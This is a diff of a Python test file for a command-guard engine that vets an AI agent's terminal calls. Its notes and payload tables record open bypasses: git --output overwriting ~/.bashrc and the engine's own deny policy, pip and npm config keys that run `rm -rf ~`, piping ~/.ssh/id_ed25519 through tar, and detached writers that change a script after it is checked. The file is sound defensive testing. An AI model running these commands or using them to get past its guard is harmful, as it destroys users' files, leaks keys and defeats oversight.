@@ -9,7 +9,7 @@ OPEN (strict xfails):
    range-diff, whatchanged, shortlog, reflog, rev-list, blame: git 2.39 opens the file), and all are `keeps_tree:`
    verbs. Only diff/log/show's `--output` is read (policies/executors.yaml, git's subcommands), so
    `git diff-tree --output=-delete HEAD; find . -del*` is allowed and find empties the folder (live); `git
-   diff-tree -s --always --pretty=format:'rm -f ~/notes.txt' HEAD --output=$HOME/.bashrc` writes a chosen line over
+   diff-tree -s --always --pretty=format:'rm -rf ~' HEAD --output=$HOME/.bashrc` writes a chosen line over
    ~/.bashrc (live); `git rev-list --output=policies/deny.yaml HEAD` overwrites the engine's own policy; a background
    `git diff-tree ... --output=x.sh` rewrites a script a later call runs (session_memory.Writing does not see it).
 2. `git config --file=F` / `-f F` (a `keeps_tree:` verb) writes F, unread: `git config --file=-delete a.b c; find .
@@ -17,20 +17,25 @@ OPEN (strict xfails):
    ~/notes.txt'` writes a login file whose `b = c || rm ...` line a login shell runs (live).
 3. debt48's pip row misses keys pip reads as a program or a source: `python` (pip >= 22.3 re-runs itself under that
    interpreter), `requirement`, `editable`, `constraint`, `log`, `keyring-provider`. `printf '[global]\npython =
-   ./x.sh\n' > pip.conf; PIP_CONFIG_FILE=pip.conf pip install --no-index six` (and `> .venv/pip.conf;
-   .venv/bin/pip install`) is allowed; pip runs x.sh (live).
-4. npm's `call` key (what `npm exec` runs) is not in the .npmrc row's settings: `printf 'call=rm -f ~/notes.txt\n' >
+   ./p.sh\n' > pip.conf; PIP_CONFIG_FILE=pip.conf pip install --no-index six` (and `> .venv/pip.conf;
+   .venv/bin/pip install`) is allowed, with p.sh a written `rm -rf ~`; pip runs the script (live).
+4. npm's `call` key (what `npm exec` runs) is not in the .npmrc row's settings: `printf 'call=rm -rf ~\n' >
    .npmrc; npm exec --offline` is allowed; npm runs it (live, npm 11).
 5. yarn 1 reads `.yarnrc`'s `yarn-path` (kebab case; the row lists berry's `yarnPath`, and `-` is not matched against
-   a camel-case key): `printf 'yarn-path: ./x.js\n' > .yarnrc; yarn install` is allowed (verdict only: no yarn here).
+   a camel-case key): `printf 'yarn-path: ./x.js\n' > .yarnrc; yarn install` is allowed; berry's `httpsProxy` /
+   `httpProxy` and `npmPublishRegistry` are in no row either (verdicts only: no yarn here).
 6. settings_write reads the target as written on the line, not where the line's `cd` put it: with the project in the
    home, `cd ..; printf '[global]\npython = ./p/x.sh\n' > .config/pip/pip.conf` (the user's pip configuration, run by
    every later pip) is allowed; `printf 'x\n' >` the same path asks.
-7. `ls FILE` (no -d, no glob) prints FILE itself; the packer reading takes it for a folder's names:
-   `ls ~/.ssh/id_ed25519 | tar -cf - -T -` (`| cpio -o`, `| zip - -@`, `| pax -w`) is allowed and prints the key (live).
-8. session_memory.Writing tracks only a call started in the background: a foreground call that leaves a detached writer
-   (`( ... cp y.txt x.sh ) >/dev/null 2>&1 &`, `setsid -f sh -c '...'`, `nohup sh -c '...' &`) then `sh x.sh`
-   runs the copied text (live through the terminal tool); a background `cp y.txt x.s?` (a glob target) too.
+7. `ls FILE` (no -d, no glob) prints FILE itself; the packer reading takes it for a folder's names: judged without a
+   session (`hermes-engine check`, what a guard hook asks), `ls ~/.ssh/id_ed25519 | tar -cf - -T -` (`| cpio -o`,
+   `| zip - -@`) is allowed and prints the key (live). Through the terminal tool with a session it asks.
+8. session_memory.Writing misses two background writers of a script a later call runs: `cp y.txt x.s?` (a glob target)
+   and `git diff-tree ... --output=x.sh` (1.); the later `sh x.sh` is judged by x.sh's old text and runs the new one
+   (live through the terminal tool). Held: a foreground call's detached writer (`( ... ) >/dev/null 2>&1 &`,
+   `setsid -f`, `nohup ... &`): its `cp y.txt x.sh` is recorded and x.sh read as y.txt's text.
+
+The payloads judged carry `rm -rf ~` (the engine allows `rm -f ~/notes.txt` itself); the live runs delete the note.
 
 Held (no hole found): fp48's pruned walk (`-fprint F -prune -o`, `! -name`, `-o -delete`, a second start point, `-L`,
 `, -delete`, `-exec ... -delete`), `-execdir rm -rf`, extra rm operands, `{}x`, `yes | find . -ok rm -rf {} \\;`;
@@ -90,7 +95,7 @@ OPEN_PAYLOADS: dict[str, tuple[Case, str]] = {
     "blame-output-delete": (({}, "git blame --output=-delete a.py; find . -del*"), _OUTPUT),
     "range-diff-output-delete": (({}, "git range-diff --output=-delete a...b; find . -del*"), _OUTPUT),
     "diff-tree-output-bashrc": (
-        ({}, "git diff-tree -s --always --pretty=format:'rm -f ~/notes.txt' HEAD --output=$HOME/.bashrc"),
+        ({}, "git diff-tree -s --always --pretty=format:'rm -rf ~' HEAD --output=$HOME/.bashrc"),
         _OUTPUT,
     ),
     "diff-files-output-bashrc": (({}, "git diff-files --output=$HOME/.bashrc"), _OUTPUT),
@@ -99,16 +104,16 @@ OPEN_PAYLOADS: dict[str, tuple[Case, str]] = {
     "rev-list-output-policy": (({}, "git rev-list --output=policies/deny.yaml HEAD"), _OUTPUT),
     "config-file-delete": (({}, "git config --file=-delete a.b c; find . -del*"), _CONFIG_FILE),
     "config-file-space-delete": (({}, "git config --file -delete a.b c; find . -del*"), _CONFIG_FILE),
-    "config-file-profile": (({}, "git config --file=$HOME/.bash_profile a.b 'c || rm -f ~/notes.txt'"), _CONFIG_FILE),
+    "config-file-profile": (({}, "git config --file=$HOME/.bash_profile a.b 'c || rm -rf ~'"), _CONFIG_FILE),
     "pip-python": (
         (
-            {},
-            "printf '[global]\\npython = ./x.sh\\n' > pip.conf; PIP_CONFIG_FILE=pip.conf pip install --no-index six",
+            {"p.sh": "rm -rf ~\n"},
+            "printf '[global]\\npython = ./p.sh\\n' > pip.conf; PIP_CONFIG_FILE=pip.conf pip install --no-index six",
         ),
         _PIP,
     ),
     "pip-python-venv": (
-        ({}, "printf '[global]\\npython = ./x.sh\\n' > .venv/pip.conf; .venv/bin/pip install six"),
+        ({"p.sh": "rm -rf ~\n"}, "printf '[global]\\npython = ./p.sh\\n' > .venv/pip.conf; .venv/bin/pip install six"),
         _PIP,
     ),
     "pip-requirement": (
@@ -125,8 +130,16 @@ OPEN_PAYLOADS: dict[str, tuple[Case, str]] = {
         ),
         _PIP,
     ),
-    "npm-call": (({}, "printf 'call=rm -f ~/notes.txt\\n' > .npmrc; npm exec --offline"), _NPM_CALL),
+    "npm-call": (({}, "printf 'call=rm -rf ~\\n' > .npmrc; npm exec --offline"), _NPM_CALL),
     "yarn1-yarn-path": (({}, "printf 'yarn-path: ./x.js\\n' > .yarnrc; yarn install"), _YARN),
+    "yarn-berry-https-proxy": (
+        ({}, "printf 'httpsProxy: http://h.example:8080\\n' > .yarnrc.yml; yarn install"),
+        "yarn berry's httpProxy/httpsProxy are not in the row (npm's proxy keys are)",
+    ),
+    "yarn-berry-publish-registry": (
+        ({}, "printf 'npmPublishRegistry: http://h.example/\\n' > .yarnrc.yml; yarn npm publish"),
+        "yarn berry's npmPublishRegistry (where `yarn npm publish` sends the package) is not a source key",
+    ),
 }
 
 # ordinary commands near the payloads: allowed now, and must stay allowed when the holes are closed
@@ -297,44 +310,61 @@ def test_a_settings_write_in_the_project_stays_allowed(in_home: tuple[Path, Engi
 _WAITS = "for i in $(seq 600); do [ -e go ] && break; sleep 0.1; done; "
 _RUNS_LATER = ": > go; for i in $(seq 600); do [ -e done ] && break; sleep 0.1; done; sh x.sh"
 _DETACHED: dict[str, tuple[str, bool]] = {  # (the first call, started in the background)
-    "foreground-ampersand": ("(" + _WAITS + "cp y.txt x.sh; : > done) >/dev/null 2>&1 &", False),
-    "foreground-setsid": ("setsid -f sh -c '" + _WAITS + "cp y.txt x.sh; : > done' >/dev/null 2>&1", False),
-    "foreground-nohup": ("nohup sh -c '" + _WAITS + "cp y.txt x.sh; : > done' >/dev/null 2>&1 &", False),
     "background-glob-target": (_WAITS + "cp y.txt x.s?; : > done", True),
     "background-diff-tree-output": (
-        _WAITS + "git diff-tree -s --always --pretty=format:'rm -f ~/notes.txt' HEAD --output=x.sh; : > done",
+        _WAITS + "git diff-tree -s --always --pretty=format:'rm -rf ~/notes.txt' HEAD --output=x.sh; : > done",
         True,
     ),
 }
+# held: a foreground call's detached writer (the call's writes are recorded: x.sh read as y.txt's text)
+_HELD_DETACHED: dict[str, tuple[str, bool]] = {
+    "foreground-ampersand": ("(" + _WAITS + "cp y.txt x.sh; : > done) >/dev/null 2>&1 &", False),
+    "foreground-setsid": ("setsid -f sh -c '" + _WAITS + "cp y.txt x.sh; : > done' >/dev/null 2>&1", False),
+    "foreground-nohup": ("nohup sh -c '" + _WAITS + "cp y.txt x.sh; : > done' >/dev/null 2>&1 &", False),
+}
 
 
-@pytest.mark.parametrize("writer", list(_DETACHED), ids=list(_DETACHED))
-@pytest.mark.xfail(strict=True, reason="a detached or glob-named or --output writer is not a Writing of x.sh")
-def test_open_a_writer_the_record_does_not_see(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, writer: str) -> None:
-    """Live through the terminal tool: the first call leaves a writer of x.sh (`echo hi`) running; the later `sh x.sh`
-    is judged by the old text and runs y.txt's `rm -f ~/notes.txt`."""
+def _later_call_after(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, first: tuple[str, bool]) -> tuple[bool, bool]:
+    """Live through the terminal tool: the first call leaves a writer of x.sh (`echo hi`) running; then the later
+    `sh x.sh`. Whether the later call ran, and whether the home is intact after it."""
     with harm_project(tmp_path, monkeypatch) as (engine, home, root):
         subprocess.run(f"{_REPO}true", shell=True, cwd=root, check=True, capture_output=True)
-        (root / "y.txt").write_text("rm -f ~/notes.txt\n")
+        (root / "y.txt").write_text("rm -rf ~/notes.txt\n")  # asks when read (`rm -f` of one note is allowed)
         (root / "x.sh").write_text("echo hi\n")
-        command, background = _DETACHED[writer]
+        command, background = first
         started = engine.call("terminal", {"command": command, "background": background}, session_id="s")
         assert started.ok, started.error
         pid = str(json.loads(started.output)["process_id"]) if background else None
         try:
             result = engine.call("terminal", {"command": _RUNS_LATER}, session_id="s")
-            assert home_intact(home), result.output
+            return result.ok, home_intact(home)
         finally:
             (root / "go").touch()  # a refused later call: the writer ends
             if pid is not None:
                 engine.call("process", {"action": "kill", "process_id": pid}, session_id="s")
 
 
-def test_a_detached_writer_rewrites_the_script_live(tmp_path: Path) -> None:
-    """The ground, unguarded: the detached copy lands before the later `sh x.sh`, which deletes the note; a writer of
-    z.txt leaves x.sh's `echo hi`."""
+@pytest.mark.parametrize("writer", list(_DETACHED), ids=list(_DETACHED))
+@pytest.mark.xfail(strict=True, reason="a glob-named or --output background writer is not a Writing of x.sh")
+def test_open_a_writer_the_record_does_not_see(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, writer: str) -> None:
+    """The later `sh x.sh` is judged by the old text (`echo hi`) and runs y.txt's `rm -rf ~/notes.txt`."""
+    ran, intact = _later_call_after(tmp_path, monkeypatch, _DETACHED[writer])
+    assert intact and not ran
+
+
+@pytest.mark.parametrize("writer", list(_HELD_DETACHED), ids=list(_HELD_DETACHED))
+def test_a_detached_writer_of_a_foreground_call_is_read(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, writer: str
+) -> None:
+    ran, intact = _later_call_after(tmp_path, monkeypatch, _HELD_DETACHED[writer])
+    assert intact and not ran
+
+
+def test_a_glob_named_writer_rewrites_the_script_live(tmp_path: Path) -> None:
+    """The ground, unguarded: the background copy to `x.s?` lands before the later `sh x.sh`, which deletes the note;
+    a writer of z.txt leaves x.sh's `echo hi`."""
     setup = "printf 'rm -f ~/notes.txt\\n' > y.txt && printf 'echo hi\\n' > x.sh && "
-    home, _, _ = run_confined(tmp_path, setup + _DETACHED["foreground-ampersand"][0] + " " + _RUNS_LATER)
+    home, _, _ = run_confined(tmp_path, setup + "(" + _DETACHED["background-glob-target"][0] + ") & " + _RUNS_LATER)
     assert not (home / "notes.txt").exists()
     near = "(" + _WAITS + "cp y.txt z.txt; : > done) >/dev/null 2>&1 & "
     home, _, printed = run_confined(tmp_path / "near", setup + near + _RUNS_LATER)
